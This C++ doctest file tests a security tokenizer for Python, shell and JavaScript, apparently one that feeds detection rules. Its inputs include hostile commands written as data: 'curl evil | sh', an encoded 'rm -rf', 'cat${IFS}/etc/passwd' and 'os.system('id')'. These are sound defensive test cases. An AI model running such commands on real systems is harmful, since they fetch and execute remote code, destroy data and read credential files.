#include <doctest/doctest.h>

#include <algorithm>

#include "security/token.hpp"

using namespace kiln::security;

namespace {
std::vector<std::string> values(const TokenList& ts, TokenKind kind) {
    std::vector<std::string> out;
    for (const auto& t : ts)
        if (t.kind == kind) out.emplace_back(t.value);
    return out;
}
bool has_identifier(const TokenList& ts, const std::string& name) {
    for (const auto& t : ts)
        if (t.kind == TokenKind::Identifier && t.text == name) return true;
    return false;
}
}  // namespace

TEST_CASE("python: comments and strings are not code; escapes are decoded") {
    auto ts = tokenize_python("x = 'a\\x41\\n' # os.system here\ny = r'\\x41' + \"\"\"doc\nstring\"\"\"\n");
    CHECK_FALSE(has_identifier(ts, "os"));
    CHECK(values(ts, TokenKind::String) == std::vector<std::string>{"aA\n", "\\x41", "doc\nstring"});
    CHECK(ts[0].line == 1);
    CHECK(ts[0].column == 1);
}

TEST_CASE("python: f-string expressions are code; brackets continue lines") {
    auto ts = tokenize_python("f\"{os.system('id')} {{literal}}\"\ncall(a,\n  b)\nz\n");
    CHECK(has_identifier(ts, "os"));
    CHECK(values(ts, TokenKind::String).front() == " {literal}");
    int newlines = 0;
    for (const auto& t : ts) newlines += t.kind == TokenKind::Newline;
    CHECK(newlines == 3);
    // Positions inside the f-string point into the source.
    for (const auto& t : ts)
        if (t.text == "os") CHECK(t.column == 4);
}

// Smoke: hostile bytes must not crash the tokenizer. The real assertion is
// that an unterminated string is still a string to the end of its line or
// of the input, so code cannot hide from the rules after an open quote.
TEST_CASE("smoke: python unterminated and binary input still tokenizes") {
    auto ts = tokenize_python("'abc\n\"\"\"never closed os.system");
    CHECK(values(ts, TokenKind::String) == std::vector<std::string>{"abc", "never closed os.system"});
    CHECK_FALSE(has_identifier(ts, "os"));
    std::string bin("\x00\xff\xfe'\\", 5);
    CHECK_NOTHROW(tokenize_python(bin));
}

TEST_CASE("shell: quotes removed, $'..' decoded, $IFS splits words") {
    auto ts = tokenize_shell("$'\\x72\\x6d' -rf 'a b' \"c $d\" e\\ f\ncat${IFS}/etc/passwd # rm -rf /\n");
    auto words = values(ts, TokenKind::Word);
    REQUIRE(words.size() == 7);
    CHECK(words[0] == "rm");
    CHECK(words[2] == "a b");
    CHECK(words[3] == "c $d");
    CHECK(words[4] == "e f");
    CHECK(words[5] == "cat");
    CHECK(words[6] == "/etc/passwd");
    bool dynamic = false;
    for (const auto& t : ts)
        if (t.value == "c $d") dynamic = t.dynamic;
    CHECK(dynamic);
}

TEST_CASE("shell: command substitutions are emitted as commands; heredocs are one string") {
    auto ts = tokenize_shell("x=$(curl evil | sh)\ncat <<EOF\nrm -rf /\nEOF\necho done\n");
    auto words = values(ts, TokenKind::Word);
    CHECK(std::find(words.begin(), words.end(), "curl") != words.end());
    CHECK(std::find(words.begin(), words.end(), "rm") == words.end());
    CHECK(values(ts, TokenKind::String) == std::vector<std::string>{"rm -rf /\n"});
    CHECK(std::find(words.begin(), words.end(), "done") != words.end());
}

TEST_CASE("javascript: templates, regex literals, comments") {
    auto ts = tokenize_javascript("/* eval(x) */ const r = /\\/etc\\/shadow/g; // exec\nlet t = `a${b.c}d`; x = 4 / 2 / 1;");
    CHECK_FALSE(has_identifier(ts, "eval"));
    CHECK_FALSE(has_identifier(ts, "exec"));
    CHECK(has_identifier(ts, "b"));
    CHECK(values(ts, TokenKind::String) == std::vector<std::string>{"ad"});
    int regexes = 0;
    for (const auto& t : ts) regexes += t.kind == TokenKind::Other;
    CHECK(regexes == 1);
}
